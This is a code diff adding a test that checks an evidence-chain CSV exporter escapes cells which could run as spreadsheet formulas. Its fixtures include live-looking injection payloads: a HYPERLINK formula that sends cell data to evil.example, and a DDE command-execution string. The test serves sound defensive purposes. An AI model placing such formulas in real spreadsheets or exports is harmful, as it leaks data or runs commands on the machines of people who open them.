@@ -77,3 +77,23 @@ def test_verify_catches_a_manifest_relabelled_to_another_case(env, package, tmp_
     assert code == 1 and field in err
     # the untouched package still verifies (the check compares, it does not refuse)
     assert _verify(env, package[0], tmp_path)[0] == 0
+
+
+def test_chain_csv_cells_cannot_run_as_spreadsheet_formulas():
+    import csv
+    import io
+
+    from streams.service import evidence
+
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
+               "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
+    hops = [{"event_id": v, "account_id": v, "ts": "2025-12-01T00:00:00.000Z", "platform": v,
+             "region": v, "text_sha256": "0" * 64, "observed": True} for v in hostile]
+    hops.append({"event_id": "e1", "account_id": "weibo:42", "ts": None, "platform": "weibo",
+                 "region": "370102", "text_sha256": None, "observed": False})
+    rows = list(csv.reader(io.StringIO(evidence.chain_csv({"chains": [{"hops": hops}]}).decode("utf-8-sig"))))
+    for row, value in zip(rows[1:], hostile):
+        for cell in (row[2], row[3], row[5], row[6]):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+            assert cell == "'" + value  # the value itself is kept, marked as text
+    assert rows[-1][2:7] == ["e1", "weibo:42", "", "weibo", "370102"]
